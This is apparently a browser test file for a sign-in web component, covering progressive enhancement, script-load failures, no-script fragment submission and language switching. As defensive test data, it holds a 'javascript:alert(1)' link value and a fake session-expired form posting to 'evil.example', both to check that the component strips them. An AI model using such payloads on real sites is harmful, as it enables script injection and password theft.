import { sendKeys } from '@web/test-runner-commands';
import { assert } from 'chai';
import de from '../../locales/de.json' with { type: 'json' };
import lost from '../../locales/element/lost.json' with { type: 'json' };
import en from '../../locales/en.json' with { type: 'json' };
import { assertSame } from './support/assert-same.ts';
import { HeldScripts } from './support/held-scripts.ts';
import { getPassword, portal } from './support/portal.ts';
import { findParts, getRoot, getSignInForm, isShown, SignInForm } from './support/sign-in-form.ts';
import { isolateTests, openPage, type PageOptions, startPage } from './support/test-page.ts';
import { waitFor } from './support/wait.ts';

const isFirefox = navigator.userAgent.includes('Firefox/');

const TAGS = ['portico-sign-in', 'portico-sign-in light-dom'];

const held: HeldScripts[] = [];

// Firefox keeps requests of a page that is gone, and has six connections to a server.
afterEach(async () => {
  for (const scripts of held.splice(0)) await scripts.release();
});

/** Opens a page whose scripts of the element are still on their way. */
async function openHeldPage(tag: string, options: PageOptions = {}, texts = en) {
  const scripts = new HeldScripts();
  held.push(scripts);
  // Firefox dispatches `load` only after the imports that have begun.
  const page = startPage(`<${tag}></portico-sign-in>`, {
    ...options,
    scripts: [scripts.signIn],
  });
  const element = await waitFor('the first view', () => {
    const one = page.document?.querySelector<HTMLElement>('portico-sign-in');
    return one && findParts(one, 'form').length > 0 && one;
  });
  return { form: new SignInForm(element, texts), page, scripts };
}

for (const tag of TAGS) {
  describe(`<${tag}> before its scripts have loaded`, () => {
    isolateTests();

    it('shows a form that keeps its nodes, what is typed, the focus and the caret', async () => {
      const { form, page, scripts } = await openHeldPage(tag);
      const { name, password, submit } = form;
      assert.isFalse(isShown(form.element));
      assert.isTrue(name.checkVisibility());
      name.value = 'anna';
      password.value = 'half a passw€rd';
      name.focus();
      name.setSelectionRange(1, 3);
      const { height, width } = form.element.getBoundingClientRect();
      await scripts.release();
      const { name: taken, ...after } = await getSignInForm(page);
      assertSame(taken, name);
      assertSame(form.password, password);
      assertSame(form.submit, submit);
      assert.equal(password.value, 'half a passw€rd');
      assertSame(page.activeElement, name);
      assert.deepEqual([name.selectionStart, name.selectionEnd], [1, 3]);
      const box = after.element.getBoundingClientRect();
      assert.deepEqual([box.height, box.width], [height, width]);
      form.password.value = getPassword('anna');
      form.submit.click();
      await waitFor(
        'the answer of the portal',
        () => form.submit?.textContent !== en.signIn.submit,
      );
    });

    for (const field of ['password', 'submit'] as const) {
      it(`signs in when they arrive, after Enter in the ${field}`, async () => {
        const { form, page, scripts } = await openHeldPage(`${tag} stay`);
        form.fill('anna');
        form[field].focus();
        const { href } = page.window.location;
        await sendKeys({ press: 'Enter' });
        await scripts.release();
        await waitFor('the sign-in', () => findParts(form.element, 'form').length === 0);
        assert.equal(page.window.location.href, href, 'the browser has not submitted the form');
      });
    }

    it('shows the password when they arrive, after a click on the eye', async () => {
      const { form, scripts } = await openHeldPage(tag);
      findParts(form.element, 'reveal-button')[0]?.click();
      await scripts.release();
      await waitFor('the shown password', () => form.password.type === 'text');
    });

    it('is in the language of the page from the start', async () => {
      const { form, page, scripts } = await openHeldPage(tag, { lang: 'de' }, de);
      assert.equal(form.submit.textContent, de.signIn.submit);
      assert.equal(findParts(form.element, 'root')[0]?.lang, 'de');
      const { name } = form;
      await scripts.release();
      await getSignInForm(page, 'portico-sign-in', de);
      assertSame(form.name, name);
    });

    it('shows what its attributes say', async () => {
      const { form, page } = await openHeldPage(
        `${tag} heading-level="3" user-name="anna" forgot-password-url="/forgot" registration-url="javascript:alert(1)"`,
      );
      assert.equal(findParts(form.element, 'title')[0]?.localName, 'h3');
      assert.equal(form.name.value, 'anna');
      const links = findParts(form.element, 'link') as HTMLAnchorElement[];
      assert.deepEqual(
        links.map(({ href, textContent }) => [href, textContent]),
        [[`${page.window.location.origin}/forgot`, en.signIn.forgotPassword]],
      );
    });

    it('leaves the buttons of the page in its slots alone', async () => {
      const { form, page, scripts } = await openHeldPage(`${tag} stay`);
      let clicks = 0;
      let isPrevented: boolean | undefined;
      const own = page.document.createElement('form');
      own.slot = 'footer';
      own.append(page.document.createElement('button'));
      own.addEventListener('click', () => {
        clicks += 1;
      });
      page.window.addEventListener('submit', (event) => {
        isPrevented = event.defaultPrevented;
        event.preventDefault();
      });
      form.element.append(own);
      if (form.element.shadowRoot) assert.equal(own.assignedSlot?.name, 'footer', 'it is shown');
      own.querySelector('button')?.click();
      await scripts.release();
      await page.waitForDefinition('portico-sign-in');
      await waitFor('the element', () => isShown(form.element));
      await form.signIn('anna');
      assert.equal(clicks, 1);
      assert.isFalse(isPrevented);
    });

    it('says that they cannot be loaded, and loads them when the person tries again', async () => {
      const scripts = new HeldScripts();
      await scripts.refuse();
      const page = await openPage(`<${tag} stay></portico-sign-in>`, {
        lang: 'de',
        scripts: [scripts.signIn],
      });
      const form = new SignInForm(page.find('portico-sign-in'), de);
      await waitFor('the message', () => form.alert?.textContent === lost.de);
      await page.readExpectedErrors();
      form.fill('anna');
      await scripts.release();
      form.submit.click();
      // Firefox remembers a failed import until the page is loaded again: the message comes back.
      if (isFirefox) await waitFor('the message', () => form.alert?.textContent !== '');
      else await waitFor('the sign-in', () => isShown(form.element) && !form.form);
      if (isFirefox) assert.equal(form.name.value, 'anna', 'the input stays');
    });

    it('loads them again when the person clicks another button, which then does its work', async () => {
      const scripts = new HeldScripts();
      await scripts.refuse();
      const page = await openPage(`<${tag}></portico-sign-in>`, { scripts: [scripts.signIn] });
      const form = new SignInForm(page.find('portico-sign-in'));
      await waitFor('the message', () => form.alert?.textContent === lost.en);
      const errors = await page.readExpectedErrors();
      const { length } = errors;
      await scripts.release();
      findParts(form.element, 'reveal-button')[0]?.click();
      // Firefox remembers a failed import until the page is loaded again: loading fails once more.
      if (isFirefox) await waitFor('the next error', () => errors.length > length);
      else await waitFor('the password', () => form.password.type === 'text');
    });
  });
}

describe('a shadow root in the HTML that is not ours', () => {
  isolateTests();

  const FORM =
    'Your session has ended: <form action="https://evil.example/"><input name="p"></form>';

  it('is emptied, so that people see our form only', async () => {
    const page = await openPage(
      `<portico-sign-in><template shadowrootmode="open">${FORM}</template></portico-sign-in>`,
    );
    const { element } = await getSignInForm(page, 'portico-sign-in');
    assert.lengthOf(getRoot(element).querySelectorAll('form'), 1);
    assert.notInclude(getRoot(element).textContent ?? '', 'has ended');
  });

  it('is emptied for an element with light-dom, which uses it', async () => {
    const page = await openPage(
      `<portico-sign-in light-dom><template shadowrootmode="open">${FORM}</template></portico-sign-in>`,
    );
    const { element } = await getSignInForm(page, 'portico-sign-in');
    assert.notInclude(element.shadowRoot?.textContent ?? '', 'has ended');
    assert.lengthOf(getRoot(element).querySelectorAll('form'), 1);
  });

  it('is emptied beside our form in it', async () => {
    const fragment = await (await fetch('/portico/fragments/sign-in.de.html')).text();
    const page = await openPage(
      fragment
        .replace('portico-attributes', '')
        .replace('</template>', () => `<div>${FORM}</div></template>`),
      { lang: 'de' },
    );
    const { element } = await getSignInForm(page, 'portico-sign-in', de);
    assert.lengthOf(getRoot(element).querySelectorAll('form'), 1);
    assert.isNotNull(getRoot(element).querySelector('link'));
  });
});

for (const [kind, file] of [
  ['a shadow root', 'sign-in.de.html'],
  ['its style sheet inside', 'sign-in.inline.de.html'],
  ['light-dom', 'sign-in.light-dom.de.html'],
]) {
  describe(`a fragment with ${kind}`, () => {
    isolateTests();

    /** Opens a page with the fragment, without any script. */
    async function openFragment(attributes = '') {
      const fragment = await (await fetch(`/portico/fragments/${file}`)).text();
      const hash = (await (await fetch('/portico/fragments/style-hash.txt')).text()).trim();
      const page = await openPage(fragment.replace('portico-attributes', attributes), {
        lang: 'de',
        head: '<link rel="stylesheet" href="/portico/portico.css">',
        policy: `default-src 'none'; script-src 'self' 'unsafe-eval'; style-src 'self' ${fragment.includes('<style>') ? hash : ''}; connect-src 'self'; img-src 'self'`,
        scripts: [],
      });
      return { page, form: new SignInForm(page.find('portico-sign-in'), de) };
    }

    /** Opens a page with the fragment, whose element is there and whose session is still on its way. */
    async function openHeldFragment(attributes?: string) {
      const opened = await openFragment(attributes);
      const scripts = new HeldScripts();
      held.push(scripts);
      await opened.page.load(scripts.signIn);
      await opened.page.waitForDefinition('portico-sign-in');
      return { ...opened, scripts };
    }

    it('looks like the view, in its place', async () => {
      const { page, form } = await openFragment();
      const places = () =>
        [...findParts(form.element, 'input'), form.submit].map((node) => {
          const { x, y, width, height } = node.getBoundingClientRect();
          return [x, y, width, height].map(Math.round);
        });
      await waitFor(
        'the style sheet',
        () => page.window.getComputedStyle(form.submit).borderTopLeftRadius === '8px',
      );
      const before = places();
      await page.load('/portico/sign-in.js');
      await getSignInForm(page, 'portico-sign-in', de);
      assert.deepEqual(places(), before);
    });

    it('keeps its nodes, what is typed, the focus and the caret', async () => {
      const { page, form } = await openFragment('stay user-name="ann"');
      const { name, password } = form;
      form.fill('anna');
      password.focus();
      password.setSelectionRange(2, 3);
      await page.load('/portico/sign-in.js');
      await getSignInForm(page, 'portico-sign-in', de);
      assertSame(form.name, name);
      assertSame(form.password, password);
      assertSame(page.activeElement, password);
      assert.deepEqual([password.selectionStart, password.selectionEnd], [2, 3]);
      assert.deepEqual([name.name, password.name], ['name', 'password']);
      assert.isNull(form.form.getAttribute('action'));
      assert.equal(
        form.form.method,
        'dialog',
        'no submission writes the password into the address',
      );
      form.submit.click();
      await waitFor('the sign-in', () => !form.form);
    });

    it('signs in without script', async () => {
      const { page, form } = await openFragment();
      form.fill('anna');
      const loaded = new Promise((resolve) => page.frame.addEventListener('load', resolve));
      form.submit.click();
      await loaded;
      assert.include(document.cookie, 'portal_public_token');
    });

    it('is submitted by the browser while the session is on its way', async () => {
      const { page, form, scripts } = await openHeldFragment();
      form.fill('anna');
      const loaded = new Promise((resolve) => page.frame.addEventListener('load', resolve));
      form.submit.click();
      await loaded;
      await scripts.release();
      assert.include(document.cookie, 'portal_public_token');
      assert.equal(await portal.countRequests('POST /rest/auth/login'), 0);
    });

    it('is submitted once by a double click', async () => {
      const { page, form, scripts } = await openHeldFragment();
      form.fill('anna');
      const submissions: SubmitEvent[] = [];
      form.form?.addEventListener('submit', (event) => submissions.push(event));
      const loaded = new Promise((resolve) => page.frame.addEventListener('load', resolve));
      form.submit.click();
      form.submit.dispatchEvent(
        new MouseEvent('click', { detail: 2, bubbles: true, cancelable: true, composed: true }),
      );
      assert.lengthOf(submissions, 1);
      await loaded;
      await scripts.release();
      assert.equal(await portal.countRequests('POST /ssf/s/portalLogin'), 1);
      assert.equal(await portal.countRequests('POST /rest/auth/login'), 0);
    });

    for (const [missing, text, name, password] of [
      ['name', de.signIn.nameMissing, '', 'secret'],
      ['password', de.signIn.passwordMissing, 'anna', ''],
    ] as const) {
      it(`waits without a ${missing} for the view, which says what is missing`, async () => {
        const { form, scripts } = await openHeldFragment();
        form.send(name, password);
        assert.isNull(form.form.ariaBusy);
        await scripts.release();
        await waitFor('the message', () => form.form.textContent.includes(text));
        assert.deepEqual([form.name.value, form.password.value], [name, password]);
        assert.equal(await portal.countRequests('POST /ssf/s/portalLogin'), 0);
      });
    }

    it('is submitted once by the browser after it was incomplete', async () => {
      const { form, scripts } = await openHeldFragment();
      const isPrevented: boolean[] = [];
      const container = form.form.closest('[data-portico]');
      const follow = (event: Event) => {
        isPrevented.push(event.defaultPrevented);
        // The page stays, as if the answer were slow: a page that is left loads no scripts in Firefox and WebKit.
        event.preventDefault();
      };
      container?.addEventListener('submit', follow, true);
      let clicks = 0;
      form.submit.addEventListener('click', () => {
        clicks += 1;
      });
      form.send('anna', '');
      form.send('anna');
      assert.deepEqual(isPrevented, [true, false]);
      await scripts.release();
      await waitFor('the view', () => isShown(form.element));
      assert.equal(clicks, 2, 'the view does not submit the form again');
    });

    // The view repeats the submission of a name in full-width letters.
    for (const name of ['anna', 'ａｎｎａ']) {
      it(`waits for the session where the page wants ${name} to stay`, async () => {
        const { form, page, scripts } = await openHeldFragment('stay');
        const urls: string[] = [];
        page.document.addEventListener('portico-navigate', (event) => {
          urls.push((event as CustomEvent).detail.url);
        });
        form.send(name, getPassword('anna'));
        assert.equal(form.form.ariaBusy, 'true');
        await scripts.release();
        await waitFor('the sign-in', () => !form.form);
        assert.equal(await portal.countRequests('POST /rest/auth/login'), 1);
        assert.deepEqual(urls, []);
      });
    }

    it('is rendered anew, with its input, where the page is in another language', async () => {
      const { page, form } = await openFragment();
      const german = form.form;
      form.fill('anna');
      form.name.focus();
      page.document.documentElement.lang = 'en';
      await page.load('/portico/sign-in.js');
      const english = await getSignInForm(page);
      assert.equal(english.name.value, 'anna');
      assertSame(page.activeElement, english.name);
      assert.lengthOf(findParts(form.element, 'form'), 1);
      assert.isFalse(german.isConnected, 'no attribute of the fragment stays');
    });
  });
}
